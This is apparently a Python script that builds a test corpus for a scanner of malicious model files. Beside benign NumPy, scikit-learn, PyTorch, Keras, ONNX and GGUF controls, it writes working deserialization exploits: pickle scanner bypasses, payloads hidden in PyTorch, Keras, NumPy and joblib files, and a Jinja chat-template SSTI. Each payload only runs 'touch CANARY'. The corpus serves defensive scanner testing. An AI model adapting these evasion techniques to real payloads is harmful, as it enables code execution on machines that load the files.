#!/usr/bin/env python3
"""Writes the scanner test corpus with the real libraries.

    .venv/bin/python scripts/make-scan-corpus.py tests/fixtures/scan-corpus

Benign samples are what NumPy, scikit-learn, joblib, safetensors, ONNX and gguf write for
ordinary models. Malicious samples cover each technique family the scanner must catch; every
one has a payload that creates the file `CANARY` in the current directory when the sample is
loaded with the loader named in `corpus.json` (scripts/load-sample.py runs it). The corpus is
deterministic where the libraries allow, small, and committed.
"""
import copyreg
import hashlib
import io
import json
import os
import pickle
import struct
import sys
import zipfile

OUT = sys.argv[1] if len(sys.argv) > 1 else "tests/fixtures/scan-corpus"
CANARY_CMD = "touch CANARY"
manifest = []


def u(text):
    """SHORT_BINUNICODE (protocol 4) of `text`."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def binunicode(text):
    """BINUNICODE (protocol 2+) of `text`."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def write(name, data, kind, family, loader, note=""):
    path = os.path.join(OUT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    manifest.append({"file": f"{kind}/{name}", "kind": kind, "family": family, "loader": loader, "note": note})


class SystemCanary:
    def __reduce__(self):
        return (os.system, (CANARY_CMD,))


# ---------------------------------------------------------------- malicious: pickle families
for proto in (0, 1, 2, 3, 4, 5):
    write(f"reduce-os-system-p{proto}.pkl", pickle.dumps(SystemCanary(), protocol=proto), "malicious",
          "REDUCE of os.system (written as posix.system)", "pickle")

# INST and OBJ opcodes (protocol 0/1 class instantiation)
write("inst-opcode.pkl", b"(S'touch CANARY'\nios\nsystem\n.", "malicious", "INST opcode calls os.system", "pickle")
write("obj-opcode.pkl", b"(cos\nsystem\nS'touch CANARY'\no.", "malicious", "OBJ opcode calls os.system", "pickle")

# Names assembled through the memo (protocol 4 STACK_GLOBAL from memoized strings)
memo = b"\x80\x04" + u("posix") + b"\x94" + u("system") + b"\x94" + u(CANARY_CMD) + b"\x94h\x00h\x01\x93h\x02\x85R."
write("stack-global-via-memo.pkl", memo, "malicious", "STACK_GLOBAL with names fetched from the memo", "pickle")

# Dotted qualified name walked attribute by attribute (protocol >= 4): logging.os.system
dotted = b"\x80\x04" + u("logging") + u("os.system") + b"\x93" + u(CANARY_CMD) + b"\x85R."
write("dotted-name-attribute-walk.pkl", dotted, "malicious", "protocol-4 dotted name walks logging.os.system", "pickle")

# Python 2 name remapped by fix_imports: __builtin__.exec -> builtins.exec (protocol 2)
py2 = b"\x80\x02c__builtin__\nexec\n" + binunicode("__import__('os').system('touch CANARY')") + b"\x85R."
write("python2-builtin-exec.pkl", py2, "malicious", "__builtin__.exec remapped by fix_imports", "pickle")

# C-accelerator aliases: _operator.attrgetter resolves os.system from a module object
alias = (b"\x80\x04" + u("_operator") + u("attrgetter") + b"\x93" + u("system") + b"\x85R"
         + u("importlib") + u("import_module") + b"\x93" + u("os") + b"\x85R\x85R" + u(CANARY_CMD) + b"\x85R.")
write("operator-attrgetter-alias.pkl", alias, "malicious", "_operator.attrgetter + importlib (accelerator alias, attribute resolver)", "pickle")

# Builtins getattr chain (attribute resolver)
getattr_chain = (b"\x80\x04" + u("builtins") + u("getattr") + b"\x93" + u("builtins") + u("__import__") + b"\x93"
                 + u("os") + b"\x85R" + u("system") + b"\x86R" + u(CANARY_CMD) + b"\x85R.")
write("builtins-getattr-import.pkl", getattr_chain, "malicious", "builtins.getattr(__import__('os'), 'system')", "pickle")

# Submodule of an allowed package: numpy.testing._private.utils.runstring executes a string
runstring = (b"\x80\x04" + u("numpy.testing._private.utils") + u("runstring") + b"\x93"
             + u("__import__('os').system('touch CANARY')") + b"}\x86R.")
write("numpy-testing-runstring.pkl", runstring, "malicious", "numpy.testing submodule runs a string (allowlisted package is no shelter)", "pickle")

# Nested deserializer: pickle.loads of an inner malicious pickle
inner = pickle.dumps(SystemCanary(), protocol=2)
nested = b"\x80\x04\x8c\x07_pickle\x8c\x05loads\x93C" + bytes([len(inner)]) + inner + b"\x85R."
write("nested-pickle-loads.pkl", nested, "malicious", "_pickle.loads of an embedded pickle", "pickle")

# copyreg extension registry: EXT1 code resolved at load time (loader registered code 240)
ext = b"\x80\x02\x82\xf0" + binunicode(CANARY_CMD) + b"\x85R."
write("ext1-extension-registry.pkl", ext, "malicious", "EXT1 resolves a callable from the copyreg registry", "pickle-with-extension-240")

# Payload runs, then the stream breaks (nullifAI-style: scanners that stop at errors miss it)
write("payload-then-broken-stream.pkl", pickle.dumps(SystemCanary(), protocol=2)[:-1] + b"\xff\xfe garbage",
      "malicious", "payload before a parse error (nullifAI)", "pickle")

# Second pickle after STOP, run by loaders that call load() repeatedly (PyTorch legacy)
write("second-stream-after-stop.pkl", pickle.dumps({"ok": 1}, protocol=2) + pickle.dumps(SystemCanary(), protocol=2),
      "malicious", "malicious second pickle after a benign one", "pickle-twice")

# Polyglot: a pickle with a zip appended (torch.load reads the pickle; zip tools see an archive)
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2))
write("polyglot-pickle-then-zip.bin", pickle.dumps(SystemCanary(), protocol=2) + buf.getvalue(),
      "malicious", "pickle glued in front of a zip", "pickle")

# PyTorch-style zip whose data.pkl runs code; the member is in an unusual folder
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
    z.writestr("weights_v2/data.pkl", pickle.dumps(SystemCanary(), protocol=2))
    z.writestr("weights_v2/version", "3\n")
write("torch-zip-data-pkl.pt", buf.getvalue(), "malicious", "hand-made PyTorch zip, unusual top folder, malicious data.pkl", "torch")

# ---------------------------------------------------------------- malicious: PyTorch and Keras
os.environ.setdefault("KERAS_BACKEND", "jax")
import torch

torch.manual_seed(0)
net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))


def torch_save(name, obj, kind, family, **kwargs):
    path = os.path.join(OUT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    torch.save(obj, path, **kwargs)
    manifest.append({"file": f"{kind}/{name}", "kind": kind, "family": family, "loader": "torch", "note": ""})


torch_save("torch-save-payload.pt", {"state_dict": net.state_dict(), "hook": SystemCanary()}, "malicious",
           "torch.save checkpoint with a malicious object next to real weights")
torch_save("torch-legacy-payload.pt", {"state_dict": net.state_dict(), "hook": SystemCanary()}, "malicious",
           "PyTorch legacy (non-zip) format with a malicious object", _use_new_zipfile_serialization=False)
# Legacy format: torch.load unpickles magic, protocol and sys_info before the checkpoint itself;
# the payload sits in the third pickle, ahead of a benign checkpoint.
legacy = io.BytesIO()
torch.save(net.state_dict(), legacy, _use_new_zipfile_serialization=False)
streams = legacy.getvalue()
sys_info_start = len(pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)) + len(pickle.dumps(1001, protocol=2))
sys_info_end = sys_info_start + streams[sys_info_start:].index(b".\x80\x02") + 1
write("torch-legacy-sys-info-payload.pt", streams[:sys_info_start] + pickle.dumps(SystemCanary(), protocol=2)
      + streams[sys_info_end:], "malicious", "PyTorch legacy format whose sys_info pickle runs code", "torch")

import keras


def keras_save(name, model, kind, family, loader):
    path = os.path.join(OUT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    model.save(path)
    manifest.append({"file": f"{kind}/{name}", "kind": kind, "family": family, "loader": loader, "note": ""})


# The lambda's bytecode is marshalled for the Python that writes it (3.11 here and in CI).
# Building the model calls the lambda once: do that away from the caller's directory.
import tempfile
here = os.getcwd()
os.chdir(tempfile.mkdtemp())
OUT = os.path.join(here, OUT)
payload_layer = keras.layers.Lambda(lambda x: (__import__("os").system("touch CANARY"), x)[1])
lambda_model = keras.Sequential([keras.Input((4,)), payload_layer])
keras_save("keras-lambda.keras", lambda_model, "malicious", "Keras Lambda layer with bytecode (.keras)", "keras-unsafe")
keras_save("keras-lambda.h5", lambda_model, "malicious", "Keras Lambda layer with bytecode (legacy .h5)", "keras-unsafe")
os.chdir(here)

# ---------------------------------------------------------------- malicious: NumPy and joblib
import numpy as np

np_buf = io.BytesIO()
np.save(np_buf, np.array([SystemCanary()], dtype=object), allow_pickle=True)
write("numpy-object-array.npy", np_buf.getvalue(), "malicious", "object array whose pickle runs code", "numpy-allow-pickle")
npz_buf = io.BytesIO()
np.savez(npz_buf, weights=np.zeros(3, dtype=np.float32), meta=np.array([SystemCanary()], dtype=object))
write("numpy-npz-object-member.npz", npz_buf.getvalue(), "malicious", "npz with an object-array member", "numpy-npz-allow-pickle")

import joblib

for compress in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
    out = io.BytesIO()
    path = os.path.join(OUT, "malicious", f"joblib-{compress or 'raw'}.joblib")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    joblib.dump({"model": SystemCanary(), "weights": np.arange(4.0)}, path, compress=(compress, 3) if compress else 0)
    manifest.append({"file": f"malicious/joblib-{compress or 'raw'}.joblib", "kind": "malicious",
                     "family": f"joblib ({compress or 'uncompressed'}) with a malicious object", "loader": "joblib", "note": ""})

# ---------------------------------------------------------------- malicious: chat templates
ssti = "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch CANARY') }}"
write("tokenizer_config.json", json.dumps({"chat_template": ssti, "model_max_length": 2048}).encode(),
      "malicious", "chat template reaching Python internals (CVE-2024-34359)", "jinja-chat-template")

import gguf

path = os.path.join(OUT, "malicious", "chat-template.gguf")
w = gguf.GGUFWriter(path, "llama")
w.add_chat_template(ssti)
w.add_tensor("w", np.zeros(8, dtype=np.float32))
w.write_header_to_file(); w.write_kv_data_to_file(); w.write_tensors_to_file(); w.close()
manifest.append({"file": "malicious/chat-template.gguf", "kind": "malicious",
                 "family": "GGUF tokenizer.chat_template reaching Python internals", "loader": "gguf-chat-template", "note": ""})

# ---------------------------------------------------------------- benign
from sklearn.datasets import make_classification
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

X, y = make_classification(n_samples=60, n_features=5, random_state=0)
models = {
    "sklearn-logreg": LogisticRegression(max_iter=200).fit(X, y),
    "sklearn-forest": RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y),
    "sklearn-pipeline": make_pipeline(StandardScaler(), LogisticRegression(max_iter=200)).fit(X, y),
}
for name, model in models.items():
    for proto in (2, 4, 5):
        write(f"{name}-p{proto}.pkl", pickle.dumps(model, protocol=proto), "benign", "scikit-learn pickle", "pickle")
    for compress in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
        path = os.path.join(OUT, "benign", f"{name}-{compress or 'raw'}.joblib")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        joblib.dump(model, path, compress=(compress, 3) if compress else 0)
        manifest.append({"file": f"benign/{name}-{compress or 'raw'}.joblib", "kind": "benign",
                         "family": "scikit-learn joblib", "loader": "joblib", "note": ""})

rng = np.random.default_rng(0)
for name, array in {"float32": rng.standard_normal((4, 3)).astype(np.float32),
                    "int64": np.arange(10), "structured": np.zeros(2, dtype=[("a", "<f4"), ("b", "<i8")])}.items():
    b = io.BytesIO(); np.save(b, array)
    write(f"numpy-{name}.npy", b.getvalue(), "benign", "NumPy array", "numpy")
b = io.BytesIO(); np.savez_compressed(b, w=rng.standard_normal(16).astype(np.float32), b=np.zeros(4))
write("numpy-arrays.npz", b.getvalue(), "benign", "NumPy npz", "numpy-npz")
for proto in (2, 4, 5):
    write(f"numpy-array-p{proto}.pkl", pickle.dumps(rng.standard_normal(5), protocol=proto), "benign", "pickled NumPy array", "pickle")
write("random-state.pkl", pickle.dumps({"rng": np.random.RandomState(0), "gen": np.random.default_rng(1)}, protocol=4),
      "benign", "NumPy random states", "pickle")

from safetensors.numpy import save as st_save
write("weights.safetensors", st_save({"layer.weight": rng.standard_normal((4, 4)).astype(np.float32),
                                      "layer.bias": np.zeros(4, dtype=np.float16)}, metadata={"format": "np"}),
      "benign", "safetensors", "safetensors")

import onnx
from onnx import TensorProto, helper

node = helper.make_node("Add", ["x", "y"], ["z"])
graph = helper.make_graph([node], "add", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2]),
                                          helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
                          [helper.make_tensor_value_info("z", TensorProto.FLOAT, [2])])
write("add.onnx", helper.make_model(graph).SerializeToString(), "benign", "ONNX", "onnx")

llama3 = ("{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
          "message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
          "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
          "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")
write("tokenizer_config.json", json.dumps({"chat_template": llama3, "bos_token": "<|begin_of_text|>"}).encode(),
      "benign", "tokenizer config with the Llama 3 chat template", "jinja-chat-template")
path = os.path.join(OUT, "benign", "tiny.gguf")
w = gguf.GGUFWriter(path, "llama")
w.add_chat_template(llama3)
w.add_tensor("w", rng.standard_normal(8).astype(np.float32))
w.write_header_to_file(); w.write_kv_data_to_file(); w.write_tensors_to_file(); w.close()
manifest.append({"file": "benign/tiny.gguf", "kind": "benign", "family": "GGUF with a chat template", "loader": "gguf-chat-template", "note": ""})
# PyTorch: what torch.save and TorchScript write for ordinary models
opt = torch.optim.Adam(net.parameters(), lr=1e-3)
net(torch.randn(5, 4)).sum().backward()
opt.step()
torch_save("torch-state-dict.pt", net.state_dict(), "benign", "PyTorch state dict")
torch_save("torch-checkpoint-optimizer.pt", {"model": net.state_dict(), "optimizer": opt.state_dict(), "epoch": 3,
           "scheduler": torch.optim.lr_scheduler.StepLR(opt, 2).state_dict()}, "benign", "PyTorch checkpoint with optimizer state")
torch_save("torch-legacy.pt", net.state_dict(), "benign", "PyTorch legacy (non-zip) format", _use_new_zipfile_serialization=False)
torch_save("torch-full-module.pt", torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.Flatten()),
           "benign", "whole nn.Module pickled by torch.save")
torch_save("torch-dtypes.pt", {"bf16": torch.arange(3, dtype=torch.bfloat16), "sparse": torch.eye(3).to_sparse(),
           "q": torch.quantize_per_tensor(torch.randn(3), 0.1, 0, torch.qint8)}, "benign", "bfloat16, sparse and quantized tensors")
for name, module in {"scripted": torch.jit.script(net), "traced": torch.jit.trace(net, torch.randn(1, 4))}.items():
    path = os.path.join(OUT, "benign", f"torchscript-{name}.pt")
    module.save(path)
    manifest.append({"file": f"benign/torchscript-{name}.pt", "kind": "benign", "family": "TorchScript archive",
                     "loader": "torchscript", "note": ""})

# Keras 3: the native archive and the legacy HDF5 file
inputs = keras.Input((4,))
functional = keras.Model(inputs, keras.layers.Dense(2, activation="softmax")(keras.layers.Dense(3, activation="relu")(inputs)))
functional.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
keras_save("keras-functional.keras", functional, "benign", "Keras model (.keras)", "keras")
keras_save("keras-functional.h5", functional, "benign", "Keras model (legacy .h5)", "keras")

write("config.json", json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 64}).encode(), "benign", "HF config", "json")

manifest.sort(key=lambda m: m["file"])
# What public report each malicious sample reproduces (file name -> note); benign samples are
# false-positive controls written by the real library.
NOTES = {
    "keras-lambda.h5": "CVE-2024-3660 (Keras before 2.13 runs a Lambda layer's marshalled bytecode on load; CERT VU#253266)",
    "keras-lambda.keras": "CVE-2024-3660 (Keras Lambda layer bytecode; .keras runs it with safe_mode=False, CERT VU#253266)",
    "builtins-getattr-import.pkl": "no public id; reproduces an attribute-resolver chain (getattr(__import__('os'), 'system')): the class of picklescan GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name reaching any blocked name)",
    "chat-template.gguf": "CVE-2024-34359 (llama-cpp-python, Jinja2 SSTI through the GGUF tokenizer.chat_template)",
    "dotted-name-attribute-walk.pkl": "no public id; reproduces a protocol-4 dotted name (logging.os.system) walked with getattr from an innocuous module; cf. modelscan issue #85 (names rewritten through an allowlisted global)",
    "ext1-extension-registry.pkl": "no public id; reproduces EXT1 resolving a callable from the copyreg extension registry, which name-based scanners never see",
    "inst-opcode.pkl": "no public id; reproduces a call through INST (protocol 0), which scanners keyed on GLOBAL+REDUCE miss",
    "obj-opcode.pkl": "no public id; reproduces a call through OBJ (protocol 1), which scanners keyed on GLOBAL+REDUCE miss",
    "nested-pickle-loads.pkl": "picklescan GHSA-84r2-jw7c-4r5q (nested pickle via pickle/_pickle.loads); earlier picklescan issue #24 / PR #25",
    "numpy-npz-object-member.npz": "CVE-2019-6446 (numpy.load unpickled object arrays by default before 1.16.3); the payload sits in one npz member",
    "numpy-object-array.npy": "CVE-2019-6446 (numpy.load with allow_pickle runs an object array's pickle)",
    "numpy-testing-runstring.pkl": "no public id; reproduces a code-running function inside an allowlisted package (numpy.testing), the class of picklescan's 'missing detection when calling built-in function' advisories (e.g. GHSA-4whj-rm5r-c2v8) and modelscan issue #330 (numpy allowlist)",
    "operator-attrgetter-alias.pkl": "picklescan GHSA-955r-x9j8-7rhh and GHSA-m273-6v24-x4m4 (_operator/operator.attrgetter bypasses)",
    "payload-then-broken-stream.pkl": "nullifAI (ReversingLabs, February 2025): payload first, then a stream that breaks before STOP so scanners give up",
    "polyglot-pickle-then-zip.bin": "no public id; reproduces a pickle/zip polyglot as described by Trail of Bits' fickling polyglot module (PyTorch files valid as more than one format)",
    "python2-builtin-exec.pkl": "no public id; reproduces __builtin__.exec, which fix_imports remaps to builtins.exec below protocol 3 so a scanner matching 'builtins' misses it",
    "second-stream-after-stop.pkl": "no public id; reproduces a malicious second pickle after a benign one's STOP (loaders that call load() repeatedly, e.g. PyTorch legacy files, run it)",
    "stack-global-via-memo.pkl": "picklescan issue #22 (ImaginaryCTF 2023 'Safe Pickle': STACK_GLOBAL names taken from the memo, not the preceding opcodes)",
    "tokenizer_config.json": "CVE-2024-34359 (llama-cpp-python chat-template SSTI; the same template in a transformers tokenizer_config.json)",
    "torch-legacy-payload.pt": "no public id; reproduces a malicious object in the PyTorch legacy (non-zip) format",
    "torch-legacy-sys-info-payload.pt": "no public id; reproduces a payload in the legacy format's sys_info pickle, which runs before the model pickle",
    "torch-save-payload.pt": "no public id; reproduces the classic malicious torch.save checkpoint (payload object beside real weights)",
    "torch-zip-data-pkl.pt": "no public id; reproduces a PyTorch zip whose top folder is not 'archive', so scanners looking for archive/data.pkl miss it; related: picklescan CVE-2025-1944 (zip member names)",
}
REDUCE_NOTE = "no public id; reproduces the canonical __reduce__ payload, written as posix.system (what os.system pickles as on Linux), which denylists naming only os.system miss"
JOBLIB_NOTE = "no public id; reproduces a malicious object inside a joblib container (compressed or not), which joblib.load unpickles"
NOTES.update({f"reduce-os-system-p{p}.pkl": REDUCE_NOTE for p in range(6)})
NOTES.update({f"joblib-{c}.joblib": JOBLIB_NOTE for c in ["bz2", "gzip", "lzma", "raw", "xz", "zlib"]})


def note_for(kind, name, family):
    if kind == "benign":
        return f"benign control: {family} written by the real library (false-positive check)"
    return NOTES[name]


for sample in manifest:
    kind, name = sample["file"].split("/", 1)
    sample["note"] = sample["note"] or note_for(kind, name, sample["family"])
    # Pinned: a sample proven under its loader cannot change without the suite noticing, even
    # where the loader (torch) is not installed to prove it again.
    with open(os.path.join(OUT, sample["file"]), "rb") as f:
        sample["sha256"] = hashlib.sha256(f.read()).hexdigest()

with open(os.path.join(OUT, "corpus.json"), "w") as f:
    json.dump({"generated_by": "scripts/make-scan-corpus.py", "samples": manifest}, f, indent=1)
print(f"{len(manifest)} samples in {OUT}")
